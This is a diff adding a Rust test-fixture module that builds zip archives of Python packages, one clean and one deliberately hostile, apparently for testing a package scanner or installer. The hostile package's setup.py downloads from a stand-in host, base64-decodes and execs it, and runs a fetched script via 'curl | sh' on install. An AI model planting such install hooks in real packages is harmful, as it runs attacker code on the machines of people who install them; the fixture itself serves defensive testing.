@@ -1,0 +1,114 @@
+use bytes::Bytes;
+use domain::Sha256;
+
+/// A package as GitHub's archive of a branch would hold it: a zip with one root folder and the commit's id as its end
+/// comment. Nothing in it is compressed.
+#[derive(Debug, Clone)]
+pub struct Package {
+    /// The name to ask for.
+    pub name: String,
+    /// The archive.
+    pub bytes: Bytes,
+}
+
+impl Package {
+    /// A small Python package that does nothing wrong. Every name gives other bytes.
+    pub fn clean(name: &str) -> Self {
+        let setup = format!("from setuptools import setup\n\nsetup(name=\"{name}\", version=\"1.0.0\")\n");
+        let module = "def add(left, right):\n    return left + right\n";
+        Self::of(name, &[("setup.py", &setup), ("module/__init__.py", module), ("README.md", "# Adds\n")])
+    }
+
+    /// A package whose installation would download and run a program, were its host not a reserved name. Written for
+    /// this test; harmless.
+    pub fn hostile(name: &str) -> Self {
+        let setup = format!(
+            "import base64, os, subprocess, urllib.request\nfrom setuptools import setup\n\n\
+             payload = urllib.request.urlopen(\"http://payload.example.invalid/stage2\").read()\n\
+             exec(base64.b64decode(payload))\n\
+             os.system(\"curl -s http://payload.example.invalid/run.sh | sh\")\n\
+             setup(name=\"{name}\", version=\"1.0.0\")\n"
+        );
+        Self::of(name, &[("setup.py", &setup)])
+    }
+
+    fn of(name: &str, files: &[(&str, &str)]) -> Self {
+        let commit = &Sha256::of(name.as_bytes()).to_string()[..40];
+        let files: Vec<_> =
+            files.iter().map(|(path, text)| (format!("{name}-main/{path}"), text.as_bytes())).collect();
+        Self { name: name.to_owned(), bytes: stored_zip(&files, commit.as_bytes()).into() }
+    }
+
+    /// The version it is published as: the first digits of the commit in its end comment.
+    pub fn version(&self) -> String {
+        Sha256::of(self.name.as_bytes()).short()
+    }
+
+    /// The digest of the archive.
+    pub fn sha256(&self) -> Sha256 {
+        Sha256::of(&self.bytes)
+    }
+}
+
+/// A zip file of stored members (PKWARE APPNOTE 4.3.7, 4.3.12, 4.3.16).
+fn stored_zip(files: &[(String, &[u8])], comment: &[u8]) -> Vec<u8> {
+    let mut zip = Vec::new();
+    let mut directory = Vec::new();
+    for (path, bytes) in files {
+        let offset = length(zip.len());
+        let mut member = Vec::new();
+        member.extend_from_slice(&[0; 6]); // no flags, stored, midnight
+        member.extend_from_slice(&0x21_u16.to_le_bytes()); // 1980-01-01
+        member.extend_from_slice(&crc32fast::hash(bytes).to_le_bytes());
+        member.extend_from_slice(&length(bytes.len()));
+        member.extend_from_slice(&length(bytes.len()));
+        member.extend_from_slice(&length(path.len())[..2]);
+        member.extend_from_slice(&[0; 2]); // no extra field
+
+        zip.extend_from_slice(b"PK\x03\x04\x14\0");
+        zip.extend_from_slice(&member);
+        zip.extend_from_slice(path.as_bytes());
+        zip.extend_from_slice(bytes);
+
+        directory.extend_from_slice(b"PK\x01\x02\x14\x03\x14\0");
+        directory.extend_from_slice(&member);
+        directory.extend_from_slice(&[0; 6]); // no comment, first disk, binary
+        directory.extend_from_slice(&0o100_644_u32.wrapping_shl(16).to_le_bytes());
+        directory.extend_from_slice(&offset);
+        directory.extend_from_slice(path.as_bytes());
+    }
+    let start = length(zip.len());
+    zip.extend_from_slice(&directory);
+    zip.extend_from_slice(b"PK\x05\x06\0\0\0\0");
+    zip.extend_from_slice(&length(files.len())[..2]);
+    zip.extend_from_slice(&length(files.len())[..2]);
+    zip.extend_from_slice(&length(directory.len()));
+    zip.extend_from_slice(&start);
+    zip.extend_from_slice(&length(comment.len())[..2]);
+    zip.extend_from_slice(comment);
+    zip
+}
+
+fn length(bytes: usize) -> [u8; 4] {
+    u32::try_from(bytes).expect("the tests' packages are small").to_le_bytes()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn python_reads_the_archive() {
+        let file = tempfile::NamedTempFile::new().unwrap();
+        std::fs::write(file.path(), Package::clean("adder").bytes).unwrap();
+        let script = "import sys,zipfile; z=zipfile.ZipFile(sys.argv[1]); assert z.testzip() is None; \
+                      print(z.comment.decode(), *z.namelist())";
+        let mut python = std::process::Command::new("python3");
+        let said = crate::run(python.arg("-c").arg(script).arg(file.path())).unwrap();
+        let comment = &Sha256::of(b"adder").to_string()[..40];
+        assert_eq!(
+            said.trim(),
+            format!("{comment} adder-main/setup.py adder-main/module/__init__.py adder-main/README.md")
+        );
+    }
+}
